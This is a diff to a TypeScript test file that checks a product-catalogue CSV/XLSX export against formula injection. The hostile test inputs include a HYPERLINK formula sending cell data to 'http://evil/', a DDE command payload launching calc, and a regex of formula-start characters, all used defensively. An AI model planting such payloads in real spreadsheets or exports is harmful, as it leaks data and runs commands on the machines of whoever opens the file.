@@ -135,6 +135,38 @@ function csvRows(entries: Unzipped[]): string[][] {
   return parse(entry(entries, 'listing.csv').bytes, { bom: true, delimiter: ';', relaxColumnCount: false })
 }
 
+/**
+ * A CSV's cells as a spreadsheet reads them with `separator`: quotes open a quoted cell only at
+ * the cell's start (`""` inside is one quote, text after the closing quote is kept); a line break
+ * outside quotes ends the record.
+ */
+function spreadsheetCells(text: string, separator: string): string[] {
+  const cells: string[] = []
+  let at = 0
+  while (at < text.length) {
+    let cell = ''
+    if (text[at] === '"') {
+      at++
+      while (at < text.length) {
+        if (text[at] === '"' && text[at + 1] === '"') {
+          cell += '"'
+          at += 2
+        } else if (text[at] === '"') {
+          at++
+          break
+        } else cell += text[at++]
+      }
+    }
+    while (at < text.length && text[at] !== separator && text[at] !== '\r' && text[at] !== '\n') {
+      cell += text[at++]
+    }
+    cells.push(cell)
+    if (text[at] === '\r' && text[at + 1] === '\n') at += 2
+    else at++
+  }
+  return cells
+}
+
 async function xlsxSheet(entries: Unzipped[]): Promise<ExcelJS.Worksheet> {
   const workbook = new ExcelJS.Workbook()
   await workbook.xlsx.load(entry(entries, 'listing.xlsx').bytes as unknown as ArrayBuffer)
@@ -376,11 +408,87 @@ describe('catalogue export: listing', () => {
     ]
     const [csvHeader, ...csvBody] = csvRows(entries)
     expect(csvHeader?.[4]).toBe("'=HEADER()")
-    expect(csvBody).toEqual(expected)
+    // The CSV also defuses what follows the CR, where a reader may start a record.
+    expect(csvBody).toEqual(expected.map((row) => row.map((cell) => (cell === "'\r=1" ? "'\r'=1" : cell))))
 
     const [xlsxHeader, ...xlsxBody] = sheetRows(await xlsxSheet(entries))
     expect(xlsxHeader?.[4]).toBe("'=HEADER()")
     expect(xlsxBody).toEqual(expected.map((row) => row.map((cell) => cell.replace('\r', '\n'))))
+  })
+
+  it('starts no cell with a formula character when the CSV is read with `,` or `;`, quoting as RFC 4180 or not', async () => {
+    const hostile = [
+      'Şal, =HYPERLINK("http://evil/?"&A1,"tıkla")',
+      'Eşarp,@SUM(A1)',
+      "x,=cmd|' /C calc'!A0",
+      'a;+1+1;-2',
+      'Renk: kırmızı, -mavi',
+      'Özellikler:\n- pamuk\r\n- yıkanır\r=1+1',
+      'x,"=1"',
+      'iki,\t=1',
+      'y,  =1',
+      'z,＝1',
+    ]
+    const storage = fakeStorage()
+    const products = [
+      product(2, 'P1', {
+        name: hostile[0] as string,
+        cells: ['P1', ...hostile],
+        seo: {
+          title: 'Başlık, =1+2',
+          description: 'Açıklama\n@cmd',
+          features: ['ok', '-x'],
+          keywords: ['ipek', '+k', '=1'],
+        },
+      }),
+    ]
+    const headers = ['Stok Kodu', ...hostile.map((_, i) => `Sütun ${i + 2}`)]
+    const entries = await exportToBuffer(inputFor(storage, products, { headers }))
+    const text = entry(entries, 'listing.csv')
+      .bytes.toString('utf8')
+      .replace(/^\uFEFF/, '')
+    const formula = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/u
+    for (const separator of [',', ';']) {
+      // As a spreadsheet does (quotes honoured at a cell's start only), and as a naive reader
+      // that ignores quotes and cuts at every line break and separator.
+      const cells = [...spreadsheetCells(text, separator), ...text.split(/\r\n|\r|\n|[,;]/)]
+      expect(cells.length).toBeGreaterThan(20)
+      for (const cell of cells) {
+        expect(cell, `a cell read with ${separator}`).not.toMatch(formula)
+        // Nor once leading spaces and quotes are taken off.
+        expect(cell.replace(/^[\s"]+/, ''), `a cell read with ${separator}`).not.toMatch(formula)
+      }
+    }
+    // With the file's own separator every field comes back whole, readable, an apostrophe before
+    // each place a formula could start.
+    const [, row] = csvRows(entries)
+    // The features' ` | ` is no separator: no cell starts after it.
+    expect(row?.slice(0, 4)).toEqual(["Başlık,' =1+2", "Açıklama\n'@cmd", 'ok | -x', "ipek,' +k,' =1"])
+    expect(row?.slice(4)).toEqual([
+      'P1',
+      'Şal,\' =HYPERLINK("http://evil/?"&A1,"tıkla")',
+      "Eşarp,'@SUM(A1)",
+      "x,'=cmd|' /C calc'!A0",
+      "a;'+1+1;'-2",
+      "Renk: kırmızı,' -mavi",
+      "Özellikler:\n'- pamuk\r\n'- yıkanır\r'=1+1",
+      'x,\'"=1"',
+      "iki,'\t=1",
+      "y,'  =1",
+      "z,'＝1",
+    ])
+  })
+
+  it('leaves ordinary text with commas, hyphens and Turkish letters as it was', async () => {
+    const harmless = ['12,50 TL', 'e-posta@örnek.com', 'Kırmızı-mavi, ipek; şık', 'Boy: 90-120 cm\nEn: 45']
+    const storage = fakeStorage()
+    const headers = ['Stok Kodu', 'A', 'B', 'C', 'D']
+    const entries = await exportToBuffer(
+      inputFor(storage, [product(2, 'P1', { cells: ['P1', ...harmless] })], { headers }),
+    )
+    expect(csvRows(entries)[1]?.slice(5)).toEqual(harmless)
+    // Quoted for the reader that splits on `,` too.
+    expect(entry(entries, 'listing.csv').bytes.toString('utf8')).toContain(';"12,50 TL";')
   })
 
   it('writes the XLSX cells as text, not as formulas, in the file itself', async () => {
